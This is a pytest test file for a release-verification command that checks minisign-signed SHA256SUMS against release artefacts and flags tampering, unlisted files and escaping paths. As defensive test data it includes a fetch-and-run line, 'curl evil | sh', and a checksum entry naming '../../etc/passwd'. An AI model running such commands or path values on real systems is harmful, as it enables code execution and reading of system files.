"""``liaison verify-build`` on a release folder signed with the real minisign tool.

The folder is made the way the release build makes it (issue 12): artefacts,
``SHA256SUMS`` written by ``sha256sum``, ``SHA256SUMS.minisig`` by ``minisign -S``.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from liaison_client.cli.main import main
from liaison_client.provenance.build_verification import Problem, verify_build
from liaison_client.provenance.minisign import PublicKey
from tests.provenance.conftest import MinisignKeyPair, run_minisign

ARTEFACTS = {
    "liaison-desktop-1.4.0-linux-x86_64.tar.gz": b"\x1f\x8b bundle " * 4000,
    "liaison_1.4.0_amd64.deb": b"!<arch>\ndebian-binary " * 3000,
    "liaison_relay-1.4.0-py3-none-any.whl": b"PK\x03\x04 wheel " * 2000,
    "sbom.cdx.json": b'{"bomFormat": "CycloneDX", "specVersion": "1.6"}\n',
}


def write_checksums(dist: Path) -> None:
    """SHA256SUMS exactly as ``sha256sum`` writes it (the release build's command)."""
    summed = subprocess.run(["sha256sum", *sorted(ARTEFACTS)], cwd=dist, capture_output=True,
                            check=True, timeout=30)
    (dist / "SHA256SUMS").write_bytes(summed.stdout)


@pytest.fixture
def dist(tmp_path: Path, key_pair: MinisignKeyPair) -> Path:
    folder = tmp_path / "dist"
    folder.mkdir()
    for name, content in ARTEFACTS.items():
        (folder / name).write_bytes(content)
    write_checksums(folder)
    signed = run_minisign("-S", "-s", key_pair.secret, "-m", folder / "SHA256SUMS",
                          "-t", "liaison 1.4.0 commit 3899b84")
    assert signed.returncode == 0, signed.stderr
    return folder


def verify(dist: Path, key: Path, capsys: pytest.CaptureFixture[str],
           *extra: str) -> tuple[int, list[str]]:
    status = main(["verify-build", str(dist), "--pubkey", str(key), *extra])
    return status, capsys.readouterr().out.splitlines()


def flip_byte(path: Path, offset: int) -> None:
    content = bytearray(path.read_bytes())
    content[offset] ^= 0x01
    path.write_bytes(bytes(content))


def test_the_documented_commands_and_verify_build_agree_on_a_good_release(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_minisign("-Vm", dist / "SHA256SUMS", "-p", key_pair.public).returncode == 0
    assert subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=dist, capture_output=True,
                          timeout=30, check=False).returncode == 0

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 0
    assert len(lines) == 1
    assert lines[0].startswith(f"OK: {len(ARTEFACTS)} artefact(s) in {dist} match SHA256SUMS")
    assert "liaison 1.4.0 commit 3899b84" in lines[0]


def test_the_installed_liaison_command_verifies_a_release(
        dist: Path, key_pair: MinisignKeyPair) -> None:
    liaison = shutil.which("liaison", path=str(Path(sys.executable).parent))
    assert liaison is not None
    env = {k: v for k, v in os.environ.items() if not k.startswith("LIAISON_")}
    result = subprocess.run([liaison, "verify-build", str(dist), "--pubkey",
                             str(key_pair.public)], capture_output=True, text=True, env=env,
                            stdin=subprocess.DEVNULL, timeout=60, check=False)

    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("OK: 4 artefact(s)")

    flip_byte(dist / "sbom.cdx.json", 3)
    failed = subprocess.run([liaison, "verify-build", str(dist), "--pubkey",
                             str(key_pair.public)], capture_output=True, text=True, env=env,
                            stdin=subprocess.DEVNULL, timeout=60, check=False)

    assert failed.returncode == 1
    assert failed.stdout.splitlines()[0].startswith("sbom.cdx.json: changed")


def test_one_changed_byte_in_an_artefact_names_it(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    flip_byte(dist / "liaison_1.4.0_amd64.deb", 1000)

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines == [
        "liaison_1.4.0_amd64.deb: changed: its SHA-256 differs from SHA256SUMS",
        f"FAILED: 1 problem(s) in {dist}; 3 artefact(s) matched",
    ]


def test_one_changed_byte_in_sha256sums_fails_the_signature_and_the_hash(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    checksums = dist / "SHA256SUMS"
    content = bytearray(checksums.read_bytes())
    content[0] = ord("0") if content[0] != ord("0") else ord("1")  # still a hex digit
    checksums.write_bytes(bytes(content))

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[0] == ("SHA256SUMS.minisig: the signature does not match SHA256SUMS: the "
                        "list or its signature was changed after signing")
    assert lines[1].endswith(": changed: its SHA-256 differs from SHA256SUMS")
    assert lines[-1].startswith("FAILED: 2 problem(s)")


def test_a_re_listed_checksum_without_a_new_signature_fails(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    # The attacker swaps an artefact and updates SHA256SUMS to match.
    (dist / "liaison_1.4.0_amd64.deb").write_bytes(b"a trojaned package")
    write_checksums(dist)

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[:-1] == ["SHA256SUMS.minisig: the signature does not match SHA256SUMS: the "
                          "list or its signature was changed after signing"]


def test_one_changed_byte_in_the_signature_fails_naming_it(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    signature = dist / "SHA256SUMS.minisig"
    lines_before = signature.read_bytes().split(b"\n")
    offset = len(lines_before[0]) + 1 + 30  # inside the base64 of the signature itself
    content = bytearray(signature.read_bytes())
    content[offset] = ord("A") if content[offset] != ord("A") else ord("B")
    signature.write_bytes(bytes(content))

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[0].startswith("SHA256SUMS.minisig: ")
    assert "signature" in lines[0]
    assert len(lines) == 2


def test_a_changed_trusted_comment_fails_naming_it(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    signature = dist / "SHA256SUMS.minisig"
    signature.write_bytes(signature.read_bytes().replace(b"1.4.0", b"9.4.0"))

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[0] == ("SHA256SUMS.minisig: the trusted comment was changed after signing")


def test_the_wrong_public_key_fails_naming_both_key_ids(
        dist: Path, key_pair: MinisignKeyPair, other_key_pair: MinisignKeyPair,
        capsys: pytest.CaptureFixture[str]) -> None:
    status, lines = verify(dist, other_key_pair.public, capsys)

    signer = PublicKey.load(key_pair.public).key_id_hex
    given = PublicKey.load(other_key_pair.public).key_id_hex
    assert status == 1
    assert lines[0] == (f"SHA256SUMS.minisig: signed by key {signer}, but the public key "
                        f"given is {given}")


def test_a_missing_signature_means_unsigned(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    (dist / "SHA256SUMS.minisig").unlink()

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[0] == "SHA256SUMS.minisig: missing: the release is not signed"


def test_a_truncated_signature_fails_naming_it(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    signature = dist / "SHA256SUMS.minisig"
    signature.write_bytes(signature.read_bytes()[:120])

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[0].startswith("SHA256SUMS.minisig: not a valid minisign file")


def test_a_missing_and_an_unlisted_artefact_are_each_named_on_a_line(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    (dist / "sbom.cdx.json").unlink()
    (dist / "liaison-update.sh").write_text("curl evil | sh\n")
    (dist / "extra").mkdir()
    (dist / "extra" / "notes.txt").write_text("hello\n")

    status, lines = verify(dist, key_pair.public, capsys)

    assert status == 1
    assert lines[:-1] == [
        "sbom.cdx.json: missing (listed in SHA256SUMS)",
        "extra/notes.txt: unlisted: not in SHA256SUMS, so not covered by the signature",
        "liaison-update.sh: unlisted: not in SHA256SUMS, so not covered by the signature",
    ]


def test_the_public_key_kept_beside_the_artefacts_is_not_an_unlisted_file(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.copy(key_pair.public, dist / "liaison-release.pub")

    status, _ = verify(dist, dist / "liaison-release.pub", capsys)

    assert status == 0


def test_malformed_and_escaping_checksum_lines_are_named(
        dist: Path, key_pair: MinisignKeyPair) -> None:
    checksums = dist / "SHA256SUMS"
    checksums.write_bytes(checksums.read_bytes()
                          + b"not a checksum line\n"
                          + b"0" * 64 + b"  ../../etc/passwd\n")

    result = verify_build(dist, PublicKey.load(key_pair.public))

    problems = [(failure.file, failure.problem, failure.detail) for failure in result.failures]
    assert (("SHA256SUMS", Problem.CHECKSUMS_MALFORMED,
             "line 5 is not '<sha256>  <file name>'") in problems)
    assert (("SHA256SUMS", Problem.CHECKSUMS_MALFORMED,
             "line 6 names '../../etc/passwd', outside the folder") in problems)
    assert not result.ok


def test_binary_mode_and_escaped_names_from_sha256sum_are_understood(
        tmp_path: Path, key_pair: MinisignKeyPair) -> None:
    dist = tmp_path / "odd"
    dist.mkdir()
    (dist / "back\\slash.bin").write_bytes(b"one")
    (dist / "plain.bin").write_bytes(b"two")
    summed = subprocess.run(["sha256sum", "--binary", "back\\slash.bin", "plain.bin"],
                            cwd=dist, capture_output=True, check=True, timeout=30)
    (dist / "SHA256SUMS").write_bytes(summed.stdout)
    assert summed.stdout.startswith(b"\\")
    run_minisign("-S", "-s", key_pair.secret, "-m", dist / "SHA256SUMS")

    result = verify_build(dist, PublicKey.load(key_pair.public))

    assert result.ok, result.failures
    assert sorted(result.verified) == ["back\\slash.bin", "plain.bin"]


def test_json_output_lists_every_failure_with_a_stable_problem_word(
        dist: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    flip_byte(dist / "liaison_relay-1.4.0-py3-none-any.whl", 7)
    (dist / "stray.txt").write_text("x")

    status = main(["verify-build", str(dist), "--pubkey", str(key_pair.public), "--json"])
    report = json.loads(capsys.readouterr().out)

    assert status == 1
    assert report["ok"] is False
    assert report["key_id"] == PublicKey.load(key_pair.public).key_id_hex
    assert report["trusted_comment"] == "liaison 1.4.0 commit 3899b84"
    assert sorted(report["verified"]) == sorted(set(ARTEFACTS)
                                                - {"liaison_relay-1.4.0-py3-none-any.whl"})
    assert report["failures"] == [
        {"file": "liaison_relay-1.4.0-py3-none-any.whl", "problem": "changed",
         "detail": "changed: its SHA-256 differs from SHA256SUMS"},
        {"file": "stray.txt", "problem": "unlisted",
         "detail": "unlisted: not in SHA256SUMS, so not covered by the signature"},
    ]


def test_a_folder_without_sha256sums_is_refused(
        tmp_path: Path, key_pair: MinisignKeyPair, capsys: pytest.CaptureFixture[str]) -> None:
    status, lines = verify(tmp_path, key_pair.public, capsys)

    assert status == 1
    assert lines[0].startswith("SHA256SUMS: missing")


def test_a_malformed_public_key_is_one_line_on_stderr(
        dist: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.pub"
    bad.write_text("untrusted comment: minisign public key\nRWQ=\n")

    status = main(["verify-build", str(dist), "--pubkey", str(bad)])

    assert status == 1
    assert capsys.readouterr().err == (f"liaison: {bad}: not a valid minisign file (the public "
                                       "key is 2 bytes, not 42)\n")
